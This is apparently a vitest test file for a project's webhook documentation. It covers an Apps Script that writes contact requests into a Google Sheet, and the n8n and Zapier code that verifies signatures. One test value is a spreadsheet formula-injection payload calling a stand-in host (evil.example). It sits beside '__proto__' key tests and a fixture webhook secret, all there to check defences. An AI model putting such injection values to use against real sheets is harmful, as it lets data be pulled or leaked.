import { readFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import { createContext, runInContext } from 'node:vm';
import * as v from 'valibot';
import { describe, expect, it } from 'vitest';
import type { Contact } from '../../functions/contacts/contact.ts';
import { notificationOf } from '../../functions/notify/deliver.ts';
import { createPost } from '../../functions/notify/post.ts';
import { deliverToWebhook } from '../../functions/notify/webhook.ts';
import { post } from '../../functions/shared/calls.ts';
import { blocksIn, sectionOf } from '../support/markdown.ts';
import { noTimeout } from '../support/notifications.ts';
import { type Received, startReceiver } from '../support/receiver.ts';
import { serve } from '../support/server.ts';
import { exampleContact } from '../support/stored-contacts.ts';

const document = readFileSync('docs/webhooks.md', 'utf8');

const blocksBelow = (heading: string) => blocksIn(sectionOf(document, heading), 'js');

const secret = 'whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw3tMaq1mYvB7e';

describe('the Apps Script', () => {
  const key = 'f'.repeat(64);

  /** A cell as Sheets keeps what `appendRow` is given: as if someone had typed it. */
  const typed = (value: unknown): unknown => {
    if (typeof value !== 'string') return value;
    if (value.startsWith("'")) return value.slice(1);
    return /^[=+]/.test(value) ? { formula: value } : value;
  };

  /** A spreadsheet with this script, its web app, and stand-ins of Google's services. */
  const startWebApp = async (heads: readonly string[]) => {
    const rows: unknown[][] = [[...heads]];
    const unwritten: unknown[][] = [];
    const state = { isLocked: false, isBroken: false };
    const sheet = {
      getLastColumn: () => heads.length,
      getRange: (...range: unknown[]) => ({
        getValues: () => {
          expect(range).toEqual([1, 1, 1, heads.length]);
          return [rows[0]];
        },
        createTextFinder: (text: string) => ({
          matchEntireCell: (whole: boolean) => ({
            findNext: () => {
              expect([range, whole, state.isLocked]).toEqual([['A:A'], true, true]);
              return rows.find(([id]) => id === text) ?? null;
            },
          }),
        }),
      }),
      appendRow: (values: unknown[]) => {
        if (state.isBroken) throw new Error('Service Spreadsheets failed');
        expect(state.isLocked).toBe(true);
        unwritten.push(values.map(typed));
      },
    };
    const globals = createContext({
      SpreadsheetApp: {
        getActiveSpreadsheet: () => ({
          getSheetByName: (name: string) => (name === 'Contact requests' ? sheet : null),
        }),
        flush: () => rows.push(...unwritten.splice(0)),
      },
      LockService: {
        getScriptLock: () => ({
          waitLock: (milliseconds: number) => {
            expect(milliseconds).toBeLessThan(10_000);
            if (state.isLocked) throw new Error('Lock timeout');
            state.isLocked = true;
          },
          releaseLock: () => {
            expect(unwritten).toEqual([]);
            state.isLocked = false;
          },
        }),
      },
      ContentService: { createTextOutput: (text: string) => ({ text }) },
    });
    const [script = ''] = blocksBelow('Google Sheets');
    runInContext(script.replace("'…'", `'${key}'`), globals);

    const server = await serve((request, response, body) => {
      const parameter = Object.fromEntries(new URL(request.url ?? '', 'http://localhost').searchParams);
      try {
        // Scripts see no headers.
        const event = { parameter, postData: { contents: body.toString() } };
        const { text } = runInContext('doPost', globals)(event);
        expect(text).toEqual(expect.any(String));
        response.writeHead(302, { Location: 'https://script.googleusercontent.com/macros/echo' }).end();
      } catch {
        response.writeHead(200).end('<html>Error</html>');
      }
    });
    const appsScript = 'https://script.google.com';
    const deliver = async (contact: Contact, itsKey = key) => {
      const send: typeof post = ({ url, ...message }, signal) =>
        post({ url: url.replace(appsScript, server.url.replace(/\/$/, '')), ...message }, signal);
      const url = `${appsScript}/macros/s/AKfycb/exec?key=${itsKey}`;
      const secrets = async () => [secret];
      const now = () => new Date();
      await deliverToWebhook(url, secrets, createPost(noTimeout, send), now)(notificationOf(contact));
    };
    return { rows, state, deliver, [Symbol.asyncDispose]: server[Symbol.asyncDispose] };
  };

  const failure = expect.objectContaining({ reason: expect.stringMatching(/^HTTP 200: the Apps Script failed/) });

  it('writes a row with the columns of the heading, once for each contact request', async () => {
    await using app = await startWebApp(['id', 'createdAt', 'message', 'extra.rooms', 'extra', 'company', 'missing']);
    const { extra, ...plain } = exampleContact;
    const other = { ...plain, id: '00000000-0000-4000-8000-000000000000', message: 'Hello' };
    await app.deliver(exampleContact);
    await app.deliver(exampleContact);
    await app.deliver(other);
    const { id, createdAt, message, company } = exampleContact;
    expect(app.rows.slice(1)).toEqual([
      [id, createdAt, message, 'Ground floor\nSecond floor', JSON.stringify(extra), company, ''],
      [other.id, createdAt, 'Hello', '', '', company, ''],
    ]);
  });

  it('keeps formulas, numbers and apostrophes as the texts that they are', async () => {
    await using app = await startWebApp(['id', 'phone', 'message', 'extra.=1+1']);
    const texts = ['+1 202 555 0142', '=IMPORTXML("https://evil.example"; "//a")', "'=1+1"];
    const [phone = '', message = '', extra = ''] = texts;
    await app.deliver({ ...exampleContact, phone, message, extra: { '=1+1': extra } });
    expect(app.rows[1]?.slice(1)).toEqual(texts);
  });

  it("lets no field of a form fill a column of the service's", async () => {
    const columns = ['id', 'email', 'site', 'form', 'campaign', 'releasedAt'];
    await using app = await startWebApp(columns);
    const { id, createdAt, email } = exampleContact;
    const extra = Object.fromEntries([...columns, 'extra'].map((name) => [name, 'x']));
    await app.deliver({ id, createdAt, email, extra });
    expect(app.rows[1]).toEqual([id, email, '', '', '', '']);
  });

  it('leaves a column empty whose name every object has', async () => {
    const names = ['constructor', '__proto__', 'toString'];
    await using app = await startWebApp(['id', ...names, ...names.map((name) => `extra.${name}`)]);
    await app.deliver(exampleContact);
    expect(app.rows[1]).toEqual([exampleContact.id, ...Array(6).fill('')]);
    const { createdAt } = exampleContact;
    await app.deliver({ id: 'other', createdAt, extra: JSON.parse('{"__proto__":"x"}') });
    expect(app.rows[2]).toEqual(['other', '', '', '', '', 'x', '']);
  });

  it.each(['', 'x', key.toUpperCase()])('refuses the key "%s", so that the service retries', async (wrong) => {
    await using app = await startWebApp(['id']);
    await expect(app.deliver(exampleContact, wrong)).rejects.toEqual(failure);
    expect(app.rows).toHaveLength(1);
  });

  it('fails if the spreadsheet fails or is locked, and writes at the next try', async () => {
    await using app = await startWebApp(['id']);
    app.state.isBroken = true;
    await expect(app.deliver(exampleContact)).rejects.toEqual(failure);
    expect(app.state.isLocked).toBe(false);
    app.state.isBroken = false;
    app.state.isLocked = true;
    await expect(app.deliver(exampleContact)).rejects.toEqual(failure);
    app.state.isLocked = false;
    await app.deliver(exampleContact);
    expect(app.rows).toHaveLength(2);
  });

  it('fails if the first column is not that of the ids', async () => {
    await using app = await startWebApp(['email', 'id']);
    await expect(app.deliver(exampleContact)).rejects.toEqual(failure);
  });
});

const headers = v.object({
  'webhook-id': v.string(),
  'webhook-timestamp': v.string(),
  'webhook-signature': v.string(),
});

/** A webhook as its receiver gets it. */
const receive = async (secrets = [secret], time = new Date()): Promise<Received> => {
  await using receiver = await startReceiver();
  const deliver = deliverToWebhook(
    receiver.url,
    async () => secrets,
    createPost(noTimeout),
    () => time,
  );
  await deliver(notificationOf({ ...exampleContact, message: '😀 \u2028 "quoted" שלום' }));
  const [received] = receiver.received;
  return received ?? expect.fail();
};

/** Runs code as the body of a function, as n8n and Zapier do. */
const run = (code: string, globals: object): Promise<unknown> =>
  runInContext(
    `(async function () {${code}}).call(self)`,
    createContext({ Buffer, require: createRequire(import.meta.url), ...globals }),
  );

const [verifier = '', n8n = '', zapier = ''] = blocksBelow('Make, n8n and Zapier').map((code) =>
  code.replace('whsec_…', secret),
);

const products = [
  {
    product: 'n8n',
    read: async ({ headers: json, body }: Received) => {
      const self = { helpers: { getBinaryDataBuffer: async () => Buffer.from(body) } };
      const items = await run(verifier + n8n, { self, $input: { first: () => ({ json: { headers: json } }) } });
      return Object(items)[0].json;
    },
  },
  {
    product: 'Zapier',
    read: async (received: Received) => {
      const { 'webhook-id': id, ...others } = v.parse(headers, received.headers);
      const { 'webhook-timestamp': timestamp, 'webhook-signature': signatures } = others;
      const inputData = { id, timestamp, signatures, body: received.body };
      return run(verifier + zapier, { self: {}, inputData });
    },
  },
];

describe.each(products)('the code for $product', ({ read }) => {
  it('reads what was signed with the secret, alone or with another', async () => {
    for (const secrets of [[secret], ['AAECAwQFBgcICQoLDA0ODxAREhMUFRYXGBkaGxwdHh8g', secret]]) {
      const received = await receive(secrets);
      expect(await read(received)).toEqual(JSON.parse(received.body));
    }
  });

  it('refuses what was not signed with the secret, or long ago', async () => {
    const signed = await receive();
    const refused = [
      await receive(['AAECAwQFBgcICQoLDA0ODxAREhMUFRYXGBkaGxwdHh8g']),
      await receive([secret], new Date(Date.now() - 6 * 60 * 1000)),
      { ...signed, body: signed.body.replace('Grace', 'Eve') },
      { ...signed, headers: { ...signed.headers, 'webhook-id': 'x' } },
      { ...signed, headers: { ...signed.headers, 'webhook-signature': '' } },
    ];
    for (const received of refused) await expect(read(received)).rejects.toThrow();
  });
});
